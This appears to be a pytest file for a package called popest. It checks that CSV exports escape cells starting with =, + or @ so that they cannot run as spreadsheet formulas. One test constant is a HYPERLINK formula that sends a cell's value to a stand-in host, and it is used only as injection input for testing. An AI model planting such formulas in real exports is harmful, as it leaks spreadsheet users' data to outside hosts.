"""Tables that `--out` writes: no cell of them is a formula, and numbers stay numbers."""

import csv
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pandas as pd

from popest.checks.folder import write_checks
from popest.checks.result import CheckResult
from popest.estimates.folder import write_folder

FORMULA = '=HYPERLINK("https://x.example?"&A1)'


def test_a_table_of_a_check_holds_no_formula(tmp_path: Path) -> None:
    """Names of waves are anybody's text, and label the rows of several checks."""
    rows = [{"part": FORMULA, "share": -0.5}, {"part": "+a", "share": 1}]
    result = CheckResult("drivers", None, "said", rows)
    report: Any = SimpleNamespace(results=[result], to_dict=dict)
    write_checks(report, tmp_path)
    with (tmp_path / "drivers.csv").open(newline="") as file:
        written = list(csv.reader(file))
    assert written == [["part", "share"], [f"'{FORMULA}", "-0.5"], ["'+a", "1"]]


def test_a_table_of_an_estimate_holds_no_formula(
    sketched: Any, tmp_path: Path, monkeypatch: Any
) -> None:
    frame = pd.DataFrame({"source": ["@a"], "value": [-5.0]}, index=pd.Index(["=b"], name="id"))
    monkeypatch.setattr(type(sketched), "fit", lambda self: frame)
    write_folder(sketched, tmp_path)
    assert (tmp_path / "fit.csv").read_text() == "id,source,value\n'=b,'@a,-5.0\n"
    assert frame.index[0] == "=b"
